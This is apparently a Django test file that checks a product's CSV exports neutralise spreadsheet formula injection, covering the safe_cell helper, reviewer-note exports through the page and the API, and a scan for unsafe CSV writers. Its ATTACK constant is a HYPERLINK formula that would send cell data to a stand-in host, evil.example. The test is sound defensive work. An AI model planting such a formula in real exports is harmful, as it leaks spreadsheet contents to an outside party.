"""CSV formula injection: every CSV the product writes neutralises cells a spreadsheet would run
as formulas (`itembank.csvsafe`)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from django.urls import reverse

from itembank.csvsafe import safe_cell
from search.review import services
from tests.review.base import ReviewTestCase

ROOT = Path(__file__).resolve().parent.parent
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


class CsvSafeTests(ReviewTestCase):
    def test_formula_starts_are_neutralised(self) -> None:
        for start in ("=", "+", "-", "@", "\t", "\r"):
            with self.subTest(start=repr(start)):
                self.assertEqual(safe_cell(start + "1+1"), "'" + start + "1+1")
        self.assertEqual(safe_cell("보통 메모"), "보통 메모")
        self.assertEqual(safe_cell(-1), -1)

    def test_a_reviewer_note_is_exported_as_text(self) -> None:
        campaign = self.campaign(n=1)
        pair = campaign.pairs.get(position=1)
        services.submit(campaign, pair, self.reviewer, label="similar", note=ATTACK)
        self.login(self.admin)
        page = self.client.get(reverse("review-export", args=[campaign.pk]) + "?format=csv")
        api = self.client.get(f"/api/review/campaigns/{campaign.pk}/export/?format=csv")
        for name, response in (("page", page), ("api", api)):
            with self.subTest(name):
                self.assertEqual(response.status_code, 200)
                body = b"".join(getattr(response, "streaming_content", [response.content]))
                rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
                self.assertEqual([row["note"] for row in rows], ["'" + ATTACK])

    def test_every_csv_writer_is_the_safe_one(self) -> None:
        unsafe = re.compile(r"csv\.(writer|DictWriter)\(")
        offenders = [
            str(path.relative_to(ROOT))
            for app in ("itembank", "embeddings", "search", "monitoring")
            for path in (ROOT / app).rglob("*.py")
            if unsafe.search(path.read_text(encoding="utf-8")) and path.name != "csvsafe.py"
        ]
        self.assertEqual(offenders, [])
